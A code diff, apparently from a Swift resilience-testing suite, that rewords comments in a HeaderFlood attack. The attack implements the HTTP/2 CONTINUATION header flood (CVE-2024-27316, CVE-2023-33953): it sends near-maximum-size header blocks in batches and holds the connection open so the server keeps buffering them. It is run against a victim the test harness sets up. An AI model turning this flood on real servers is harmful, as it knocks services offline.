@@ -2,9 +2,9 @@ import XDS
 import EnvoyAPI
 import NIOCore
 
-/// Begins a header block that never ends (CVE-2024-27316, CVE-2023-33953).
+/// Sends a header block that never ends (CVE-2024-27316, CVE-2023-33953).
 struct HeaderFlood: Attack {
-    /// What the block is made of.
+    /// The contents of the block.
     enum Kind: String, CaseIterable {
         case continuation
         case empty = "empty-continuation"
@@ -30,7 +30,7 @@ struct HeaderFlood: Attack {
 
     func play(on stage: AttackStage) async throws -> [Figure] {
         try await stage.withVictim(in: stage.makeDirectory(name), VictimConfiguration()) { victim in
-            // The time that 300 MB may take at most; the others go on for as long as this is.
+            // The longest time for the 300 MB; the other kinds run for this long.
             let duration = stage.scale.duration(10, short: 2)
             let target = try RawTarget(victim)
             let sent = Shared(0)
@@ -50,7 +50,8 @@ struct HeaderFlood: Attack {
         let payload: [UInt8]
         switch kind {
         case .continuation:
-            // After a call's own fields C-core 1.51 ends the connection at once; without them it keeps what comes.
+            // After a call's usual fields, C-core 1.51 closes the connection at once; without them it buffers what
+            // arrives.
             block = HeaderBlock()
             var fields = HeaderBlock()
             while fields.bytes.count < HTTP2Frame.longestPayload - 200 {
@@ -75,7 +76,7 @@ struct HeaderFlood: Attack {
             try await connection.write(batch)
             sent.add(batch.readableBytes)
         }
-        // The server has to keep what it took while the connection is there.
+        // The server must buffer what it received for as long as the connection exists.
         try await Task.sleep(for: .seconds(600))
     }
 }
